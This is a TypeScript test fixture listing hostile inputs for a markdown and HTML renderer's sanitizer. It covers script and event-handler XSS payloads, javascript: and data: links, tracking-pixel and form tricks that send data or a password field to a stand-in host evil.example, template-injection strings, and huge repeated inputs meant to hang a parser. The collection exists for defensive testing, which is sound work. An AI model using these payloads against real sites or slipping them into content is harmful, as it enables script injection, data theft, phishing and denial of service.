/** The address that nothing may ever be fetched from. */
export const elsewhere = 'https://evil.example'

const run = 'window.hacked=1'

/** Texts that want to be more than words: to run, to load something, or never to end. */
export const hostileTexts: readonly string[] = [
  ...tags(),
  ...links(),
  ...pictures(),
  ...styles(),
  ...forms(),
  ...endless(),
]

function tags(): readonly string[] {
  return [
    `<script>${run}</script>`,
    `<SCRIPT SRC="${elsewhere}/x.js"></SCRIPT>`,
    `<script type="module">${run}</script>`,
    `</div></article><script>${run}</script>`,
    `<scr<script>ipt>${run}</scr</script>ipt>`,
    `<img src=x onerror=${run}>`,
    `<img src="${elsewhere}/a.png" onload="${run}">`,
    `<svg onload=${run}></svg>`,
    `<svg><script>${run}</script></svg>`,
    `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
    `<svg><use href="data:image/svg+xml;base64,PHN2Zy8+#x"/></svg>`,
    `<math><mtext><script>${run}</script></mtext></math>`,
    `<math href="javascript:${run}">click</math>`,
    `<iframe src="javascript:${run}"></iframe>`,
    `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
    `<object data="${elsewhere}/x.swf"></object>`,
    `<embed src="${elsewhere}/x.svg">`,
    `<video src=x onerror=${run}>`,
    `<audio src=x onerror=${run}>`,
    `<details open ontoggle=${run}>x</details>`,
    `<body onload=${run}>`,
    `<input autofocus onfocus=${run}>`,
    `<select autofocus onfocus=${run}>`,
    `<textarea autofocus onfocus=${run}>`,
    `<marquee onstart=${run}>x</marquee>`,
    `<a href=# onclick=${run}>x</a>`,
    `<div onpointerover="${run}">hover</div>`,
    `<base href="${elsewhere}/">`,
    `<meta http-equiv="refresh" content="0;url=${elsewhere}">`,
    `<link rel="stylesheet" href="${elsewhere}/x.css">`,
    `<template><script>${run}</script></template>`,
    `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
    `<!--><img src=x onerror=${run}>-->`,
    `<![CDATA[<script>${run}</script>]]>`,
    `<?xml version="1.0"?><script>${run}</script>`,
    `<dialog open><form method=dialog><button formaction="javascript:${run}">x</button></form></dialog>`,
    `<portal src="${elsewhere}"></portal>`,
    `<x contenteditable onblur=${run}>x</x>`,
    `\u0000<script>${run}</script>`,
    `＜script＞${run}＜/script＞`,
  ]
}

function links(): readonly string[] {
  const targets = [
    `javascript:${run}`,
    `JaVaScRiPt:${run}`,
    `java\tscript:${run}`,
    `\u0001javascript:${run}`,
    `javascript&colon;${run}`,
    `&#106;avascript:${run}`,
    `vbscript:msgbox(1)`,
    `data:text/html,<script>${run}</script>`,
    `data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGFja2VkPTE8L3NjcmlwdD4=`,
    `blob:${elsewhere}/1`,
    `file:///etc/passwd`,
    `//evil.example/x`,
    `/api/conversations`,
    `../../api/recovery/dismiss`,
    `\\\\evil.example\\share`,
  ]
  return targets.flatMap(target => [`[words](${target})`, `<${target}>`])
}

function pictures(): readonly string[] {
  return [
    `![x](${elsewhere}/pixel.png?d=secret)`,
    `![x](//evil.example/pixel.png)`,
    `![x](data:image/svg+xml,<svg onload=${run}>)`,
    `![x](javascript:${run})`,
    `[![x](${elsewhere}/a.png)](${elsewhere}/b)`,
    `![x][ref]\n\n[ref]: ${elsewhere}/ref.png`,
    `![](${elsewhere}/${'a'.repeat(500)}.png)`,
    `<picture><source srcset="${elsewhere}/a.webp"></picture>`,
    `<img srcset="${elsewhere}/a.png 2x">`,
    `<input type=image src="${elsewhere}/a.png">`,
    `<table background="${elsewhere}/a.png"><tr><td>x</table>`,
    `<video poster="${elsewhere}/a.png"></video>`,
  ]
}

function styles(): readonly string[] {
  return [
    `<style>*{background:url(${elsewhere}/a.png)}</style>`,
    `<style>@import "${elsewhere}/a.css";</style>`,
    `<p style="background:url(${elsewhere}/a.png)">x</p>`,
    `<p style="position:fixed;inset:0;z-index:9999">covers</p>`,
    `<div style="width:expression(${run})">x</div>`,
    `<font color="red" size="99">big</font>`,
  ]
}

function forms(): readonly string[] {
  return [
    `<form action="${elsewhere}"><input name=password><button>Sign in</button></form>`,
    `<button formaction="${elsewhere}">x</button>`,
    `\`\`\`html\n<script>${run}</script>\n\`\`\``,
    `\`<script>${run}</script>\``,
    `\`\`\`"><img src=x onerror=${run}>\ncode\n\`\`\``,
    `| a |\n|---|\n| <script>${run}</script> |`,
    `- <script>${run}</script>\n  - <img src=x onerror=${run}>`,
    `> <iframe src="${elsewhere}"></iframe>`,
    `# <svg onload=${run}>`,
    `[^1]: <script>${run}</script>\n\nx[^1]`,
    `~~<script>${run}</script>~~`,
    `***<img src=x onerror=${run}>***`,
    `$$\\href{javascript:${run}}{x}$$`,
    `\`\`\`mermaid\ngraph TD; A["<img src=x onerror=${run}>"]\n\`\`\``,
    `{{constructor.constructor('${run}')()}}`,
    `\${${run}}`,
  ]
}

function endless(): readonly string[] {
  return [
    '> '.repeat(10_000),
    '- '.repeat(10_000),
    '1. '.repeat(10_000),
    '['.repeat(20_000),
    '![['.repeat(10_000),
    '*'.repeat(20_000),
    '**a '.repeat(10_000),
    '_a*b'.repeat(10_000),
    '`'.repeat(20_000),
    '`a'.repeat(10_000),
    '<'.repeat(20_000),
    '<a'.repeat(10_000),
    '</div>'.repeat(5_000),
    '&amp;'.repeat(10_000),
    '|a'.repeat(10_000),
    `|${'a|'.repeat(500)}\n|${'-|'.repeat(500)}\n`,
    '\n'.repeat(20_000),
    `${' '.repeat(20_000)}x`,
    '#'.repeat(20_000),
    '```'.repeat(5_000),
    'a'.repeat(100_000),
    '̷'.repeat(5_000),
    '\u202e\u2066'.repeat(2_000),
    '\ud83d'.repeat(1_000),
    '[a]('.repeat(5_000),
    `[a]: ${'x '.repeat(5_000)}`,
    '~~'.repeat(10_000),
    'https://evil.example/'.repeat(2_000),
    'a@b.c '.repeat(5_000),
    '字'.repeat(50_000),
  ]
}
